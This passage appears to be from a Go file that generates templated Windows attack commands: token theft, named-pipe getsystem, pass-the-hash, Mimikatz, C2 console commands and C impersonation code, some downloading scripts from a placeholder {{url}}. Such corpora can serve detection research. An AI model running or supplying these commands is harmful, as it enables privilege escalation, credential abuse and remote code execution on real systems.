			`schtasks /create /tn {{word}} /ru SYSTEM /sc once /st {{time}} /tr "cmd /c echo {{hex8}} > \\.\pipe\{{tkpipe}}" {{amp}} schtasks /run /tn {{word}}`),
		fam("token/service-pipe-trigger-ps", c, "windows", PS,
			`New-Service -Name {{word}} -BinaryPathName 'cmd /c echo {{hex8}} > \\.\pipe\{{tkpipe}}'; Start-Service {{word}}`,
			`sc.exe create {{word}} binPath= "cmd.exe /c echo {{word}} > \\.\pipe\{{tkpipe}}"; sc.exe start {{word}}`,
			`Invoke-CimMethod -ClassName Win32_Service -MethodName Create -Arguments @{ Name='{{word}}'; PathName='%COMSPEC% /c echo {{hex8}} > \\.\pipe\{{tkpipe}}'; StartMode='Manual' }`,
			`$p = New-Object IO.Pipes.NamedPipeServerStream('{{tkpipe}}'); New-Service {{word}} -BinaryPathName "cmd /c echo x > \\.\pipe\{{tkpipe}}" | Start-Service; $p.WaitForConnection(); $p.RunAsClient({ {{payload}} })`,
			`Start-Job { $s = New-Object IO.Pipes.NamedPipeServerStream('{{tkpipe}}'); $s.WaitForConnection(); $s.RunAsClient({ Start-Process {{shell}} }) }; sc.exe create {{word}} binPath= "cmd /c echo 1 > \\.\pipe\{{tkpipe}}"; sc.exe start {{word}}`),
		fam("token/pipe-server-ps-oneliner", c, "windows", PS,
			`$p=New-Object System.IO.Pipes.NamedPipeServerStream('{{tkpipe}}','InOut');$p.WaitForConnection();$p.RunAsClient([Action]{ Start-Process {{shell}} })`,
			`$s = [System.IO.Pipes.NamedPipeServerStream]::new("{{tkpipe}}", [System.IO.Pipes.PipeDirection]::InOut); $s.WaitForConnection(); $s.RunAsClient({ {{payload}} }); $s.Dispose()`,
			`$pipe = New-Object IO.Pipes.NamedPipeServerStream "{{tkpipe}}", "InOut", 1; $pipe.WaitForConnection(); $pipe.RunAsClient({ [Security.Principal.WindowsIdentity]::GetCurrent().Name > {{pstemp}}\{{word}}.txt; Start-Process {{shell}} })`,
			`$np=New-Object IO.Pipes.NamedPipeServerStream('{{tkpipe}}');$np.WaitForConnection();[{{word}}]::ImpersonateNamedPipeClient($np.SafePipeHandle.DangerousGetHandle());Copy-Item \\{{host}}\c$\{{word}} {{pstemp}}`,
			`Invoke-NamedPipeServer -PipeName {{tkpipe}} -Impersonate -Command "{{payload}}"`),
		fam("token/psgetsystem", c, "windows", PS,
			`. .\psgetsys.ps1; [MyProcess]::CreateProcessFromParent({{ppid}},"{{shell}}","")`,
			`Import-Module {{pstemp}}\psgetsys.ps1; [MyProcess]::CreateProcessFromParent((Get-Process {{winlogon|lsass|services|wininit}}).Id, "{{shell}}", "")`,
			`[MyProcess]::CreateProcessFromParent((Get-Process -Name winlogon).Id,"cmd.exe","/c {{payload}}")`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/psgetsys.ps1'); [MyProcess]::CreateProcessFromParent((Get-Process lsass).Id, "{{shell}}", "")`,
			`. {{pstemp}}\psgetsys.ps1; $p = (Get-Process {{tksysproc}} | select -First 1).Id; [MyProcess]::CreateProcessFromParent($p, "{{shell}}", "{{payload}}")`),
		fam("token/privfu-artsofgetsystem", c, "windows", Cmd,
			`NamedPipeImpersonation{{|.exe}} -m {{0|1|2}}{{| -c "{{payload}}"}}`,
			`TokenStealing.exe -p {{pid}} -c {{shell}}`,
			`EfsPotato.exe -m {{0|1}} -c {{shell}}`,
			`{{wtemp}}\NamedPipeImpersonation.exe -m 1 -p {{tkpipe}}`,
			`TokenStealing.exe -p {{pid}} -i`,
			`GetSystem.exe -m {{0|1|2|3}} -i`),
		fam("token/namedpipe-pth", c, "windows", PS,
			`Invoke-NamedPipePTH -Username {{user}} -Hash {{hex32}} -Target localhost -PipeName {{tkpipe}}`,
			`Invoke-NamedPipePTH -Username {{user}} -Domain {{domain}} -Hash {{hex32}} -Target localhost -PipeName {{tkpipe}} -Command "{{payload}}"`,
			`IEX (iwr {{url}}/Invoke-NamedPipePTH.ps1 -UseBasicParsing); Invoke-NamedPipePTH -Username {{user}} -Hash {{hex32}} -PipeName {{tkpipe}} -Binary {{shell}}`,
			`NamedPipePTH.exe -u {{user}} -d {{domain}} -h {{hex32}} -p {{tkpipe}} -c "{{payload}}"`,
			`Import-Module .\Invoke-NamedPipePTH.ps1; Invoke-NamedPipePTH -Username Administrator -Hash {{hex32}} -Target localhost -PipeName {{tkpipe}} -Binary "{{shell}}"`),
		fam("token/namedpipe-impersonation-c-source", c, "windows", Raw,
			`HANDLE hPipe = CreateNamedPipeA("\\\\.\\pipe\\{{tkpipe}}", PIPE_ACCESS_DUPLEX, PIPE_TYPE_MESSAGE | PIPE_WAIT, 1, 2048, 2048, 0, NULL);
ConnectNamedPipe(hPipe, NULL);
ImpersonateNamedPipeClient(hPipe);
OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, FALSE, &hToken);
DuplicateTokenEx(hToken, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &hPrimary);
CreateProcessWithTokenW(hPrimary, 0, L"{{shell}}", NULL, 0, NULL, NULL, &si, &pi);`,
			`while (TRUE) {
  if (ConnectNamedPipe(hPipe, NULL) && ImpersonateNamedPipeClient(hPipe)) {
    HANDLE hTok; OpenThreadToken(GetCurrentThread(), TOKEN_DUPLICATE | TOKEN_QUERY, FALSE, &hTok);
    DuplicateTokenEx(hTok, MAXIMUM_ALLOWED, NULL, SecurityDelegation, TokenPrimary, &hDup);
    CreateProcessAsUserW(hDup, NULL, L"{{payload}}", NULL, NULL, FALSE, CREATE_NEW_CONSOLE, NULL, NULL, &si, &pi);
    RevertToSelf();
  }
  DisconnectNamedPipe(hPipe); /* pipe {{tkpipe}} */
}`,
			`// getsystem: service client writes to \\.\pipe\{{tkpipe}}
system("sc create {{word}} binPath= \"cmd /c echo {{hex8}} > \\\\.\\pipe\\{{tkpipe}}\" && sc start {{word}}");
ConnectNamedPipe(hPipe, NULL); ReadFile(hPipe, buf, sizeof(buf), &n, NULL);
ImpersonateNamedPipeClient(hPipe);
OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, FALSE, &hSystemToken);`,
			`ImpersonateNamedPipeClient(hPipe); OpenThreadToken(GetCurrentThread(), TOKEN_ALL_ACCESS, FALSE, &hTok); SetThreadToken(NULL, hTok); // \\.\pipe\{{tkpipe}} from pid {{pid}}`),

		// ---- Token tools ----
		fam("token/tokenvator-console", c, "windows", Raw,
			`(Tokens) > steal_token {{pid}} {{shell}}`,
			`(Tokens) > GetSystem {{shell}}`,
			`(Tokens) > GetTrustedInstaller {{shell}}`,
			`(Tokens) > BypassUAC {{pid}} {{shell}}`,
			`(Tokens) > Steal_Pipe_Token \\.\pipe\{{tkpipe}} {{shell}}`,
			`(Tokens) > Enable_Privilege /Process:{{pid}} /Privilege:{{tkpriv}}`,
			`(Tokens) > Remove_Privilege /Process:{{pid}} /Privilege:{{SeDebugPrivilege|SeChangeNotifyPrivilege|SeLoadDriverPrivilege}}`,
			`(Tokens) > Logon_User /Username:{{user}} /Password:{{pass}} /Domain:{{domain}} /Command:{{shell}}`,
			`(Tokens) > Nuke_Privileges /Process:{{pid}}`,
			`(Tokens) > Sample_Processes_WMI {{amp}} Steal_Token /Process:{{pid}}`,
			`(Tokens) > Create_Token /Command:{{shell}} /Groups:{{sid}}`),
		fam("token/koh-bof-client", c, "windows", Raw,
			`koh list`, `koh groups 0x{{hex8}}`, `koh impersonate 0x{{hex8}}`, `koh release {{all|0x{{hex8}}}}`,
			`koh filter add {{sid}}`, `koh filter list {{amp}} koh impersonate 0x{{hex8}}`,
			`execute-assembly /opt/tools/Koh.exe {{capture|monitor|list}}{{| /pipename:{{tkpipe}}}}`,
			`{{tkprompt}}koh impersonate 0x{{hex8}}`, `{{tkprompt}}execute-assembly Koh.exe capture /pipename:{{tkpipe}}`),
		fam("token/invoke-runascs", c, "windows", PS,
			`Invoke-RunasCs -Username {{user}} -Password '{{pass}}' -Command "{{payload}}"{{| -Domain {{domain}}}}{{| -LogonType {{2|3|8|9}}}}`,
			`Invoke-RunasCs {{user}} {{pass}} {{shell}} -Remote {{ip}}:{{c2port}}`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Invoke-RunasCs.ps1'); Invoke-RunasCs -Username {{user}} -Password {{pass}} -Command "{{shell}}"`,
			`Invoke-RunasCs -Username {{user}} -Password {{pass}} -Command {{shell}} -BypassUac{{| -LogonType 8}}`,
			`Invoke-RunasCs -Username {{user}} -Password {{pass}} -Domain {{domain}} -Command "{{payload}}" -CreateProcessFunction {{0|1|2}} -ProcessTimeout 0`,
			`Import-Module {{pstemp}}\Invoke-RunasCs.ps1; Invoke-RunasCs -Username {{user}} -Password '{{pass}}' -Command "cmd /c {{payload}}" -ForceProfile`),
		fam("token/powerview-user-impersonation", c, "windows", PS,
			`$SecPassword = ConvertTo-SecureString '{{pass}}' -AsPlainText -Force; $Cred = New-Object System.Management.Automation.PSCredential('{{domain}}\{{user}}', $SecPassword); Invoke-UserImpersonation -Credential $Cred`,
			`Invoke-UserImpersonation -Credential $Cred{{| -Quiet}}`,
			`$Token = Invoke-UserImpersonation -Credential $Cred; Get-ChildItem \\{{host}}\c$; Invoke-RevertToSelf -TokenHandle $Token`,
			`Invoke-UserImpersonation -TokenHandle $Token`,
			`$cred = New-Object PSCredential('{{domain}}\{{user}}', (ConvertTo-SecureString '{{pass}}' -AsPlainText -Force)); $t = Invoke-UserImpersonation -Credential $cred; Get-DomainUser -Server {{host}}`,
			`Import-Module .\PowerView.ps1; Invoke-UserImpersonation -Credential (New-Object PSCredential('{{user}}@{{domain}}', (ConvertTo-SecureString '{{pass}}' -AsPlainText -Force)))`),
		fam("token/nishang-enable-duplicatetoken", c, "windows", PS,
			`Enable-DuplicateToken{{|; whoami}}`,
			`. {{pstemp}}\Enable-DuplicateToken.ps1; Enable-DuplicateToken`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Enable-DuplicateToken.ps1'); Enable-DuplicateToken`,
			`Import-Module {{pstemp}}\Enable-DuplicateToken.ps1; Enable-DuplicateToken; Start-Process {{shell}}`,
			`Import-Module .\nishang.psm1; Enable-DuplicateToken; {{payload}}`,
			`iex (iwr http://{{ip}}:{{port}}/Enable-DuplicateToken.ps1 -UseBasicParsing); Enable-DuplicateToken`),
		fam("token/impersonate-exe", c, "windows", Cmd,
			`Impersonate{{|.exe}} list`,
			`Impersonate.exe exec {{n}} "{{payload}}"`,
			`Impersonate.exe adduser {{n}} {{user}} {{pass}} {{Administrators|"Domain Admins"}} \\{{host}}`,
			`{{wtemp}}\Impersonate.exe exec {{num}} {{shell}}`,
			`{{wtemp}}\Impersonate.exe list {{amp}} {{wtemp}}\Impersonate.exe exec {{n}} "{{payload}}"`),
		fam("token/nxc-impersonate-module", c, "windows", Sh,
			`{{cme}} smb {{target}} {{creds}} -M impersonate`,
			`{{cme}} smb {{ip}} {{creds}} -M impersonate -o TOKEN={{n}} EXEC="{{payload}}"`,
			`{{cme}} smb {{ip}} {{creds}} -M impersonate -o EXEC=whoami TOKEN={{n}}`,
			`{{cme}} smb {{ip}} {{creds}} -M impersonate -o TOKEN={{n}} EXEC='net group "Domain Admins" {{user}} /add /domain'`,
			`crackmapexec smb {{ip}} {{creds}} -M tokens`,
			`{{cme}} smb {{target}} {{creds}} -M impersonate -o MODULE_TIMEOUT={{n}}0`),
		fam("token/sharpsploit-tokens", c, "windows", Script,
			`using SharpSploit.Credentials;
Tokens t = new Tokens();
t.ImpersonateProcess({{pid}});
Console.WriteLine(System.IO.File.ReadAllText(@"\\{{host}}\c$\{{word}}.txt"));
t.RevertToSelf();`,
			`var tokens = new SharpSploit.Credentials.Tokens();
tokens.MakeToken("{{user}}", "{{domain}}", "{{pass}}");
Console.WriteLine(SharpSploit.Enumeration.Host.GetDirectoryListing(@"\\{{host}}\c$"));`,
			`Tokens t = new Tokens(); t.GetSystem(); {{Shell.ShellExecute("{{payload}}")|t.BypassUAC("{{shell}}")|t.ImpersonateUser("{{domain}}\\{{user}}")}};`,
			`[Reflection.Assembly]::LoadFile("{{pstemp}}\SharpSploit.dll")
$t = New-Object SharpSploit.Credentials.Tokens
$t.ImpersonateProcess({{pid}})
Get-ChildItem \\{{host}}\c$`,
			`$t = New-Object SharpSploit.Credentials.Tokens; $t.GetSystem(); $t.BypassUAC("{{shell}}", "/c {{payload}}")`),
		fam("token/powersharppack-token-wrappers", c, "windows", PS,
			`Invoke-SharpImpersonation -Command "user:{{domain}}\{{user}} binary:{{shell}}"`,
			`Invoke-BadPotato -Command "{{payload}}"`,
			`Invoke-Tokenvator -Command "Steal_Token {{pid}} {{shell}}"`,
			`Invoke-SweetPotato -Command "-p {{shell}} -a '/c {{payload}}'"`,
			`PowerSharpPack -SharpImpersonation -Command "{{list|pid:{{pid}} binary:{{shell}}}}"`,
			`PowerSharpPack -BadPotato -Command "{{payload}}"`,
			`Invoke-PrintSpoofer -Command "-i -c {{shell}}"`,
			`iex(new-object net.webclient).downloadstring('{{url}}/PowerSharpPack.ps1'); PowerSharpPack -Tokenvator -Command "GetSystem {{shell}}"`),
		fam("token/privfu-trustexec", c, "windows", Cmd,
			`TrustExec{{|.exe}} -m exec -s{{| -f}}`,
			`TrustExec.exe -m exec -c "{{payload}}"`,
			`TrustExec.exe -m exec -t {{0|1}} -c {{shell}}`,
			`{{wtemp}}\TrustExec.exe -m exec -s -c "{{payload}}"`,
			`TrustExec.exe -m sid -a -d {{word}} -u {{user}} -i {{num}} {{amp}} TrustExec.exe -m exec -s`),
		fam("token/privfu-switchpriv", c, "windows", Cmd,
			`SwitchPriv{{|.exe}} -e {{debug|impersonate|assignprimarytoken|tcb|createtoken|all}}`,
			`SwitchPriv.exe -e {{debug|impersonate|all}} -p {{pid}}`,
			`SwitchPriv.exe -r {{all|debug|impersonate|loaddriver}} -p {{pid}}`,
			`SwitchPriv.exe -i {{low|untrusted}} -p {{pid}}`,
			`{{wtemp}}\SwitchPriv.exe -e all -s`,
			`SwitchPriv.exe -d {{all|debug}} -p {{pid}}`),
		fam("token/privfu-tokenassignor", c, "windows", Cmd,
			`TokenAssignor{{|.exe}} -m {{0|1|2|3}} -p {{pid}}{{| -c "{{payload}}"}}`,
			`TokenAssignor.exe -m 1 -p {{pid}} -c {{shell}}`,
			`{{wtemp}}\TokenAssignor.exe -m 0 -p {{pid}} -n`,
			`TokenAssignor.exe -m 2 -p {{pid}} -c "{{shell}}" -s {{n}}`,
			`TokenAssignor.exe -m 3 -i {{n}}`),
		fam("token/setcb-s4u-tools", c, "windows", Cmd,
			`TcbElevation{{|.exe}} {{word}} "{{payload}}"`,
			`S4ULogonShell{{|.exe}}{{| -u {{user}} -d {{domain}}}}`,
			`S4uDelegator.exe -l -u {{user}} -d {{domain}} -g "{{Administrators|Domain Admins}}"`,
			`SeTcbPrivilegePoC.exe -c "{{payload}}"`,
			`{{wtemp}}\TcbElevation.exe {{word}} "{{shell}}"`,
			`S4ULogonShell.exe -u {{user}} -e {{shell}} -x {{sid}}`),
		fam("token/trustedinstaller-ntobject", c, "windows", PS,
			`Start-Service TrustedInstaller; $p = Get-NtProcess -Name TrustedInstaller.exe; $t = $p.OpenToken(); New-Win32Process {{shell}} -Token $t`,
			`sc.exe start TrustedInstaller; $th = (Get-NtProcess -Name TrustedInstaller.exe).GetFirstThread(); $cur = Get-NtThread -Current -PseudoHandle; $imp = $cur.ImpersonateThread($th); {{payload}}`,
			`New-Win32Process -CommandLine "{{shell}}" -CreationFlags NewConsole -ParentProcess (Get-NtProcess -Name TrustedInstaller.exe)`,
			`Start-Service TrustedInstaller; $ti = Get-NtProcess -ServiceName TrustedInstaller; New-Win32Process "{{payload}}" -ParentProcess $ti`,
			`Import-Module NtObjectManager; Start-Service TrustedInstaller; $tok = Get-NtToken -Duplicate -ProcessId (Get-Process TrustedInstaller).Id; Invoke-NtToken $tok { Start-Process {{shell}} }`),
		fam("token/run-as-trustedinstaller-tools", c, "windows", Cmd,
			`NSudo{{|LG|LC}}.exe -U:{{T|S}} -P:E {{shell}}`,
			`NSudoLC.exe -U:T -P:E -ShowWindowMode:Hide "{{payload}}"`,
			`AdvancedRun.exe /EXEFilename "{{shell}}" /RunAs {{4|8}} /Run`,
			`AdvancedRun.exe /EXEFilename "%windir%\system32\cmd.exe" /CommandLine "/c {{payload}}" /RunAs 8 /Run`,
			`RunAsTI{{|64}}.exe {{shell}}`,
			`ExecTI.exe "{{payload}}"`,
			`superUser64.exe /ws {{shell}}`,
			`PowerRun.exe "{{shell}}"`,
			`{{wtemp}}\NSudo.exe -U:S -P:E -M:S "{{payload}}"`),
		fam("token/generic-token-steal-tools", c, "windows", Cmd,
			`TokenThief.exe --pid {{pid}} --cmd {{shell}}`,
			`StealToken{{|.exe}} {{pid}} {{shell}}`,
			`getsystem.exe -p {{pid}} -c "{{payload}}"`,
			`PrimaryTokenTheft.exe {{pid}}{{| {{shell}}}}`,
			`ImpersonateProcess.exe --pid {{pid}} --exec "{{payload}}"`,
			`TokenDuplicator.exe -p {{pid}} -c {{shell}}`,
			`token_steal.exe {{pid}} "{{payload}}"`,
			`{{wtemp}}\{{rndexe}} steal_token {{pid}} {{shell}}`,
			`DupToken.exe -pid {{pid}} -run "{{shell}}"`),
		fam("token/invoke-mimikatz-token", c, "windows", PS,
			`Invoke-Mimikatz -Command '"token::elevate" "token::run /process:{{shell}}"'`,
			`Invoke-Mimikatz -Command '"privilege::debug" "token::elevate /domainadmin"'`,
			`Invoke-Mimikatz -Command '"token::list /user:{{user}}"'`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Invoke-Mimikatz.ps1'); Invoke-Mimikatz -Command "token::elevate /id:{{num}}"`,
			`Invoke-Mimikatz -Command '"token::elevate /user:{{user}}" "token::run /process:{{shell}}"' -ComputerName {{host}}`,
			`Invoke-Mimikatz -Command '"token::elevate /enterpriseadmin" "token::whoami"'`),
		fam("token/invoke-mimikatz-sidhistory", c, "windows", PS,
			`Invoke-Mimikatz -Command '"privilege::debug" "sid::patch" "sid::add /sam:{{user}} /new:{{sid}}"'`,
			`Invoke-Mimikatz -Command '"misc::addsid {{user}} {{sid}}"'`,
			`Invoke-Mimikatz -Command '"sid::add /sam:{{user}} /new:{{Administrator|krbtgt|{{sid}}}}"' -ComputerName {{host}}`,
			`IEX (iwr {{url}}/Invoke-Mimikatz.ps1 -UseBasicParsing); Invoke-Mimikatz -Command '"sid::patch" "sid::add /sam:{{user}} /new:{{domain}}\Domain Admins"'`,
			`Invoke-Mimikatz -Command '"sid::modify /sam:{{user}} /new:{{sid}}"'`),
		fam("token/invoke-ms16032", c, "windows", PS,
			`Invoke-MS16032 -Command "iex(New-Object Net.WebClient).DownloadString('{{url}}/{{word}}.ps1')"`,
			`Invoke-MS16-032{{|; whoami}}`,
			`Invoke-MS16032 -Application {{shell}} -Commandline "/c {{payload}}"`,
			`IEX (New-Object Net.WebClient).DownloadString('{{url}}/Invoke-MS16032.ps1'); Invoke-MS16032 -Command "{{payload}}"`,
			`Import-Module {{pstemp}}\Invoke-MS16032.ps1; Invoke-MS16032 -Command "Start-Process {{shell}}"`),
		fam("token/make-token-standalone-tools", c, "windows", Cmd,
			`MakeToken{{|.exe}} -d {{domain}} -u {{user}} -p {{pass}} -c {{shell}}`,
			`SharpMakeToken.exe {{domain}} {{user}} {{pass}}{{| {{shell}}}}`,
			`NetOnly.exe {{domain}}\{{user}} {{pass}} "{{shell}}"`,
			`{{wtemp}}\maketoken.exe {{user}} {{domain}} {{pass}} "{{payload}}"`,
			`LogonUserImpersonate.exe /u:{{domain}}\{{user}} /p:{{pass}} /type:{{9|2|3}} /cmd:"{{payload}}"`,
			`NewCredentials.exe -u {{user}} -d {{domain}} -p {{pass}} -e "{{shell}}"`),
		fam("token/ps-impersonation-helper-functions", c, "windows", PS,
			`{{tkfn}} -ProcessId {{pid}}{{| -Command "{{payload}}"}}`,
			`{{tkfn}} -Process {{tksysproc}} -Binary {{shell}}`,
			`Invoke-TokenImpersonation -Username {{user}} -Domain {{domain}} -Password '{{pass}}' -ScriptBlock { {{payload}} }`,
			`Start-Impersonation -Credential $cred; Get-ChildItem \\{{host}}\c$; Stop-Impersonation`,
			`Invoke-ImpersonateUser -ProcessName {{tksysproc}}; {{payload}}`,
			`Import-Module {{pstemp}}\{{word}}.ps1; {{tkfn}} -Id (Get-Process {{tksysproc}})[0].Id`),

		// ---- C2 and post-exploitation consoles ----
		fam("token/msf-token-modules", c, "windows", Raw,
			`use exploit/windows/local/ms16_032_secondary_logon_handle_privesc{{| {{amp}} set SESSION {{n}} {{amp}} run}}`,
			`use exploit/windows/local/ms16_075_reflection_juicy {{amp}} set CLSID {{clsid}} {{amp}} set SESSION {{n}} {{amp}} run`,
			`msf6 exploit(windows/local/ms16_075_reflection_juicy) > set CLSID {{clsid}}`,
			`use exploit/windows/local/ms16_075_reflection; set LPORT {{c2port}}; set SESSION {{n}}; exploit`,
			`run exploit/windows/local/ms16_032_secondary_logon_handle_privesc SESSION={{n}} LHOST={{ip}} LPORT={{c2port}}`,
			`msf6 exploit(windows/local/ms16_032_secondary_logon_handle_privesc) > set SESSION {{n}}`,
			`use exploit/windows/local/ms16_075_reflection_juicy; set LHOST {{ip}}; set LPORT {{c2port}}; set SESSION {{num}}; run -j`),
		fam("token/msf-incognito-resource", c, "windows", Raw,
			`sessions -i {{n}} -C "load incognito"`,
			`sessions -i {{n}} -C 'impersonate_token "{{domain}}\\{{user}}"'`,
			`sessions -C "steal_token {{pid}}"`,
			`sessions -i {{n}} -C "list_tokens -{{u|g}}"`,
			`sessions -i {{num}} -C "use incognito" -C 'impersonate_token "NT AUTHORITY\\SYSTEM"'`,
			`resource {{word}}.rc # load incognito; impersonate_token {{domain}}\\{{user}}`,
			`msf6 > sessions -i {{n}} -C "steal_token {{pid}}"`),
		fam("token/cs-elevate-runasadmin", c, "windows", Raw,
			`{{tkprompt}}elevate svc-exe {{tkcsl}}`,
			`{{tkprompt}}elevate uac-token-duplication {{tkcsl}}`,
			`{{tkprompt}}runasadmin uac-token-duplication {{payload}}`,
			`{{tkprompt}}elevate {{juicypotato|ms16-032|ms14-058}} {{tkcsl}}`,
			`{{tkprompt}}spawnu {{pid}} {{tkcsl}}`,
			`{{tkprompt}}runasadmin uac-cmstplua {{shell}}`,
			`{{tkprompt}}elevate svc-exe {{tkcsl}} {{amp}} getuid`),
		fam("token/cs-aggressor-token-funcs", c, "windows", Raw,
			`bsteal_token($1, {{pid}});`,
			`bmake_token($1, "{{domain}}", "{{user}}", "{{pass}}");`,
			`brev2self($1); bsteal_token($1, {{pid}});`,
			`bgetsystem($1);`,
			`bppid($1, {{pid}});`,
			`brunu($1, {{pid}}, "{{shell}}");`,
			`bspawnas($1, "{{domain}}", "{{user}}", "{{pass}}", "{{tkcsl}}");`,
			`bgetprivs($1, "{{tkpriv}}");`,
			`belevate($1, "svc-exe", listener_info("{{tkcsl}}"));`,
			`brunasadmin($1, "uac-token-duplication", "{{payload}}");`),
		fam("token/sliver-token-cmds", c, "windows", Raw,
			`sliver ({{word}}) > impersonate {{user}}`,
			`{{|sliver ({{word}}) > }}make-token -u {{user}} -d {{domain}} -p {{pass}}{{| -T LOGON_NEW_CREDENTIALS| -T LOGON_INTERACTIVE| -T LOGON_BATCH}}`,
			`{{|sliver ({{word}}) > }}getsystem -p {{parentproc}}`,
			`{{|sliver ({{word}}) > }}runas -u {{domain}}\\{{user}} -p {{shell}}{{| -a "/c {{payload}}"}}`,
			`runas --username {{user}} --process {{shell}} --args "{{payload}}" --net-only`,
			`impersonate -t {{n}}0 {{domain}}\\{{user}}`,
			`sliver ({{word}}) > rev2self`,
			`execute-assembly -t {{n}}0 /opt/SharpToken.exe execute "{{sysacct}}" "{{shell}}"`),
		fam("token/havoc-token-cmds", c, "windows", Raw,
			`{{|[{{hex8}}] Demon » |demon.x64 >>> }}token steal {{pid}}{{| 0x{{hex8}}}}`,
			`{{|[{{hex8}}] Demon » }}token make {{domain}} {{user}} {{pass}}{{| LOGON_NEW_CREDENTIALS| LOGON_INTERACTIVE}}`,
			`{{|[{{hex8}}] Demon » }}token impersonate {{n}}`,
			`{{|[{{hex8}}] Demon » }}token privs-get {{tkpriv}}`,
			`{{|[{{hex8}}] Demon » }}token find-tokens`,
			`{{|[{{hex8}}] Demon » }}token remove {{n}}`,
			`{{|[{{hex8}}] Demon » }}token revert`,
			`token steal {{pid}} {{amp}} token impersonate {{n}}`),
		fam("token/mythic-apollo-token", c, "windows", Raw,
			`steal_token {{pid}}`,
			`make_token -Domain {{domain}} -Username {{user}} -Password {{pass}}`,
			`make_token {{domain}}\{{user}} {{pass}}{{| true}}`,
			`ppid {{pid}}`,
			`getprivs {{amp}} steal_token {{pid}}`,
			`token make -username {{user}} -password {{pass}} -domain {{domain}} -name {{word}}`,
			`token impersonate {{word}}`,
			`apollo> steal_token {{pid}}`,
			`spawnto_x64 {{sys32}}\{{word}}.exe {{amp}} ppid {{pid}}`),
		fam("token/covenant-grunt-tasks", c, "windows", Raw,
			`MakeToken /username:"{{user}}" /domain:"{{domain}}" /password:"{{pass}}" /logontype:"{{LOGON32_LOGON_NEW_CREDENTIALS|LOGON32_LOGON_INTERACTIVE|LOGON32_LOGON_NETWORK}}"`,
			`ImpersonateUser /username:"{{domain}}\{{user}}"`,
			`ImpersonateProcess /processid:"{{pid}}"`,
			`({{user}}) > ImpersonateProcess {{pid}}`,
			`GetSystem {{amp}} ImpersonateUser {{domain}}\{{user}}`,
			`BypassUACCommand /command:"{{shell}}" /parameters:"/c {{payload}}"`,
			`MakeToken {{user}} {{domain}} {{pass}} LOGON32_LOGON_NEW_CREDENTIALS`,
			`BypassUACGrunt /launcher:"{{word}}"`),
		fam("token/empire-token-modules", c, "windows", Raw,
			`{{|(Empire: {{hex8}}) > }}steal_token {{pid}}`,
			`(Empire: {{hex8}}) > revtoself`,
			`usemodule powershell/credentials/tokens{{amp}} set ImpersonateUser True{{amp}} set ProcessID {{pid}}{{amp}} execute`,
			`(Empire: powershell/credentials/tokens) > set Username "{{sysacct}}"`,
			`usemodule powershell/privesc/getsystem{{amp}} set Technique {{NamedPipe|Token}}{{amp}} execute`,
			`usemodule powershell/privesc/ms16-032{{amp}} set Listener {{tkcsl}}{{amp}} execute`,
			`usemodule powershell/management/spawnas{{amp}} set Domain {{domain}}{{amp}} set UserName {{user}}{{amp}} set Password {{pass}}{{amp}} set Listener {{tkcsl}}`,
			`(Empire: powershell/credentials/tokens) > set CreateProcess {{shell}}`),
		fam("token/bruteratel-token", c, "windows", Raw,
			`{{|badger> }}make_token {{domain}} {{user}} {{pass}}`,
			`{{|badger> }}impersonate {{pid}}`,
			`badger> revtoself`,
			`{{|badger> }}get_system`,
			`{{|badger> }}set_parent {{pid}}`,
			`{{|badger> }}grab_token {{pid}}`,
			`{{|badger> }}list_tokens {{amp}} impersonate {{pid}}`,
			`{{|badger> }}runas {{domain}}\{{user}} {{pass}} {{shell}}`),
		fam("token/poshc2-token", c, "windows", Raw,
			`{{|PS {{n}}> }}get-system{{|-withproxy|-withdaisy}}`,
			`{{|PS {{n}}> }}invoke-runas -user {{user}} -password {{pass}} -domain {{domain}} -command {{shell}} -args "/c {{payload}}"`,
			`{{|PS {{n}}> }}invoke-tokenmanipulation -impersonateuser -username "{{sysacct}}"`,
			`{{|C# {{n}}> }}steal-token {{pid}}`,
			`{{|C# {{n}}> }}make-token {{domain}}\{{user}} {{pass}}`,
			`{{|C# {{n}}> }}runas-netonly {{domain}} {{user}} {{pass}} {{shell}}`,
			`{{|C# {{n}}> }}sharpcmd SweetPotato -p {{shell}} -a "/c {{payload}}"`),
		fam("token/c2-ppid-commands", c, "windows", Raw,
			`execute-assembly --ppid {{pid}} --process {{sys32}}\{{word}}.exe /opt/{{word}}.exe`,
			`sideload --ppid {{pid}} --process {{sys32}}\{{word}}.exe /opt/{{word}}.dll`,
			`spawndll --ppid {{pid}} /opt/{{word}}.dll`,
			`{{|badger> }}set_ppid {{pid}}`,
			`{{|apollo> }}ppid {{pid}} {{amp}} spawn`,
			`psinject {{pid}} x64 {{amp}} ppid {{pid}}`,
			`config process.ppid {{pid}}`,
			`{{tkprompt}}ppid {{pid}}{{amp}} run {{shell}}`),
		fam("token/merlin-token", c, "windows", Raw,
			`{{|Merlin[agent][{{guid}}]» }}token make {{domain}}\{{user}} {{pass}}`,
			`{{|Merlin[agent][{{guid}}]» }}token steal {{pid}}`,
			`Merlin[agent][{{guid}}]» token privs`,
			`Merlin[agent][{{guid}}]» token rev2self`,
			`{{|Merlin[agent][{{guid}}]» }}runas {{domain}}\{{user}} {{pass}} {{shell}}`,
			`Merlin[agent][{{guid}}]» token whoami`),
		fam("token/meterpreter-kiwi-cmd-token", c, "windows", Raw,
			`kiwi_cmd "token::elevate"`,
			`kiwi_cmd token::elevate /{{domainadmin|enterpriseadmin|system}}`,
			`kiwi_cmd "sid::add /sam:{{user}} /new:{{sid}}"`,
			`kiwi_cmd "token::run /process:{{shell}}"`,
			`kiwi_cmd "misc::addsid {{user}} {{sid}}"`,
			`kiwi_cmd "token::elevate /user:{{user}}"`,
			`meterpreter > kiwi_cmd "token::list /user:{{user}}"`),
		fam("token/pupy-token", c, "windows", Raw,
			`{{|>> }}impersonate -l`,
			`{{|>> }}impersonate -i {{sid}}`,
			`{{|>> }}getsystem{{| -r}}`,
			`{{|>> }}getprivs{{| --get-debug}}`,
			`{{|>> }}impersonate -i {{sid}} {{amp}} shell`,
			`{{|>> }}impersonate --impersonate {{pid}}`,
			`>> run getsystem --restore`),

		// ---- Win32 token APIs ----
		fam("token/csharp-steal-token-program", c, "windows", Script,
			`static void Main(string[] args) {
    int pid = {{pid}};
